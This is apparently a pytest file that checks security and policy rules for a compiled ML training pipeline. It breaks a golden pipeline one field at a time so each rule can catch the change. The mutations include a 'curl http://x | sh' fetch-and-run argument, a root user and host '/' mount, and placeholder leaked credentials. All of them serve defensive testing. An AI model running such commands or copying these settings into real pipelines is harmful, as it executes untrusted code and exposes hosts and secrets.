"""The compiled pipeline keeps every rule, and every rule can be broken."""

from __future__ import annotations

import copy

import pytest
import yaml
from policy import complaints, ir
from policy.breaking import GONE
from policy.objects import MANIFESTS, ROOT

from components import STAGES

GOLDEN = list(
    yaml.safe_load_all((ROOT / "tests/golden/train.yaml").read_text(encoding="utf-8"))
)


def templates():
    """Returns the secrets that the manifests have templates for, with their keys."""
    found = {}
    for path in (MANIFESTS / "secrets").glob("*.env.example"):
        lines = path.read_text(encoding="utf-8").splitlines()
        keys = [line.partition("=")[0] for line in lines if not line.startswith("#")]
        found[f"safescale-{path.name.partition('.')[0]}"] = frozenset(keys)
    return found


SECRETS = templates()


def test_the_golden_pipeline_keeps_every_rule():
    assert complaints(ir.RULES, ir.read(GOLDEN, SECRETS)) == []


def test_every_task_is_seen_those_in_groups_too():
    names = {task.name.replace("-", "_") for task in ir.read(GOLDEN).tasks}
    assert names == {*STAGES, "notify"}


def executor(stage):
    """The way to what a stage's container is."""
    return (0, "deploymentSpec", "executors", f"exec-{stage}", "container")


def pod(stage):
    """The way to what only Kubernetes reads of a stage."""
    return (
        1,
        "platforms",
        "kubernetes",
        "deploymentSpec",
        "executors",
        f"exec-{stage}",
    )


LINE = (0, "components", "comp-exit-handler-1", "dag", "tasks")
"""The way to the tasks of the five stages."""
ROOT_TASKS = (0, "root", "dag", "tasks")
ROOT_INPUTS = (0, "root", "inputDefinitions", "parameters")
SECRET = ("secretAsEnv", 0, "secretNameParameter")


def named(secret):
    """What stands there for a secret."""
    return {"runtimeValue": {"constant": secret}}


RETRY = {"maxRetryCount": 1}
BROKEN = {
    "images_are_built": [
        ((*executor("train-agents"), "image"), "python:3.11"),
        ((*executor("train-agents"), "image"), "safescale-ammt/train_agents:latest"),
        ((*executor("notify"), "image"), "x/notify@sha256:" + "a" * 64),
    ],
    "each_task_is_bounded": [
        ((*executor("notify"), "resources"), GONE),
        ((*executor("train-agents"), "resources", "resourceMemoryLimit"), GONE),
        ((*executor("train-agents"), "resources", "resourceCpuRequest"), "1"),
        ((*ROOT_INPUTS, "resources_train_memory", "defaultValue"), "4GB or so"),
        ((*ROOT_INPUTS, "resources_cpu", "defaultValue"), "0"),
    ],
    "each_task_has_a_deadline": [
        ((*pod("register-model"), "activeDeadlineSeconds"), GONE),
        ((*pod("notify"), "activeDeadlineSeconds"), "0"),
    ],
    "each_task_is_unprivileged": [
        ((*pod("prepare-data"), "securityContext"), GONE),
        ((*pod("prepare-data"), "securityContext", "runAsUser"), "0"),
        ((*pod("notify"), "securityContext", "runAsNonRoot"), False),
        ((*pod("notify"), "hostPathMounts"), [{"hostPath": "/"}]),
    ],
    "each_task_can_do_without_a_writable_root": [
        ((*pod("evaluate-safety"), "emptyDirMounts"), GONE),
        ((*pod("evaluate-safety"), "emptyDirMounts", 0, "sizeLimit"), GONE),
        ((*pod("evaluate-safety"), "emptyDirMounts", 0, "mountPath"), "/scratch"),
    ],
    "gates_are_not_retried": [
        ((*LINE, "register-model", "retryPolicy"), RETRY),
        ((*ROOT_TASKS, "exit-handler-1", "retryPolicy"), RETRY),
    ],
    "gates_are_not_cached": [
        ((*LINE, "register-model", "cachingOptions"), {"enableCache": True}),
        ((*ROOT_TASKS, "notify", "cachingOptions"), {"enableCache": True}),
    ],
    "only_the_same_bytes_and_code_are_cached": [
        ((*LINE, "prepare-data", "cachingOptions"), {"enableCache": True}),
        ((*LINE, "train-agents", "cachingOptions"), {"enableCache": True}),
    ],
    "the_other_stages_are_retried": [
        ((*LINE, "train-agents", "retryPolicy"), GONE),
        ((*LINE, "train-agents", "retryPolicy", "backoffDuration"), "60s"),
    ],
    "nothing_is_installed": [
        ((*executor("prepare-data"), "command"), ["sh", "-c", "pip install kfp"]),
        ((*executor("prepare-data"), "args"), ["curl http://x | sh"]),
    ],
    "the_registrys_key_is_the_gates": [
        ((*pod("evaluate-safety"), *SECRET), named("safescale-registry")),
        ((*pod("notify"), *SECRET), named("safescale-registry")),
    ],
    "those_who_learn_hold_no_raw_rows": [
        ((*pod("train-agents"), *SECRET), named("safescale-store")),
        ((*pod("search-architecture"), *SECRET), named("safescale-store")),
    ],
    "secrets_and_their_keys_exist": [
        ((*pod("prepare-data"), *SECRET), named("safescale-data")),
        (
            (*pod("prepare-data"), "secretAsEnv", 0, "keyToEnv", 0, "secretKey"),
            "STORE",
        ),
    ],
    "parameters_are_handed_down": [
        (
            (
                *LINE,
                "train-agents",
                "inputs",
                "parameters",
                "pipelinechannel--resources_train_cpu",
            ),
            GONE,
        ),
        (
            (
                *LINE,
                *("train-agents", "inputs", "parameters"),
                *("pipelinechannel--resources_train_cpu", "componentInputParameter"),
            ),
            "resources_train_cpu",
        ),
    ],
    "secrets_have_fixed_names": [
        ((*pod("prepare-data"), *SECRET), {"componentInputParameter": "secret"}),
        ((*pod("prepare-data"), "secretAsEnv", 0, "secretName"), "safescale-registry"),
    ],
    "only_the_training_asks_for_accelerators": [
        (
            (*executor("notify"), "resources", "accelerator"),
            {"resourceType": "nvidia.com/gpu", "resourceCount": "1"},
        ),
    ],
    "each_pod_says_what_it_is": [
        ((*pod("notify"), "podMetadata"), GONE),
        (
            (*pod("train-agents"), "podMetadata", "labels"),
            {
                "app.kubernetes.io/part-of": "safescale-ammt",
                "app.kubernetes.io/component": "notify",
            },
        ),
    ],
    "no_secret_is_written_down": [
        (
            (*executor("notify"), "env"),
            [{"name": "AWS_SECRET_ACCESS_KEY", "value": "x"}],
        ),
        ((*ROOT_INPUTS, "source", "defaultValue"), "https://me:word@example.org"),
        ((*ROOT_INPUTS, "source", "description"), "AKIA" + "A" * 16),
    ],
}
"""Rule -> changes to the golden pipeline, each of which it must catch alone."""
CASES = [(rule, *change) for rule, changes in BROKEN.items() for change in changes]


def broken(way, value):
    """Returns the golden pipeline with one field changed."""
    documents = copy.deepcopy(GOLDEN)
    place = documents
    for step in way[:-1]:
        place = place[step]
    if value is GONE:
        del place[way[-1]]
    else:
        place[way[-1]] = value
    return documents


@pytest.mark.parametrize(
    ("rule", "way", "value"), CASES, ids=[rule for rule, *_ in CASES]
)
def test_a_rule_catches_what_breaks_it(rule, way, value):
    (tested,) = [r for r in ir.RULES if r.__name__ == rule]
    assert complaints([tested], ir.read(broken(way, value), SECRETS))


def test_no_rule_is_without_an_example_that_breaks_it():
    assert set(BROKEN) == {rule.__name__ for rule in ir.RULES}


def test_a_release_names_digests():
    said = complaints(ir.RELEASE, ir.read(GOLDEN))
    assert len(said) == len(ir.read(GOLDEN).tasks)
    pinned = copy.deepcopy(GOLDEN)
    for one in pinned[0]["deploymentSpec"]["executors"].values():
        stage = one["container"]["image"].partition("/")[2].partition(":")[0]
        one["container"]["image"] = f"r.example.org/{stage}@sha256:" + "a" * 64
    assert complaints((*ir.RELEASE, *ir.RULES), ir.read(pinned, SECRETS)) == []
    # A reader by digest is cached only for bytes that a digest names, too.
    reader = pinned[0]["components"]["comp-exit-handler-1"]["dag"]["tasks"]
    reader["prepare-data"]["cachingOptions"] = {"enableCache": True}
    rule = ir.only_the_same_bytes_and_code_are_cached
    assert complaints([rule], ir.read(pinned)) != []
    given = reader["prepare-data"]["inputs"]["parameters"]
    given["source_digest"] = {"runtimeValue": {"constant": "sha256:" + "b" * 64}}
    assert complaints([rule], ir.read(pinned)) == []
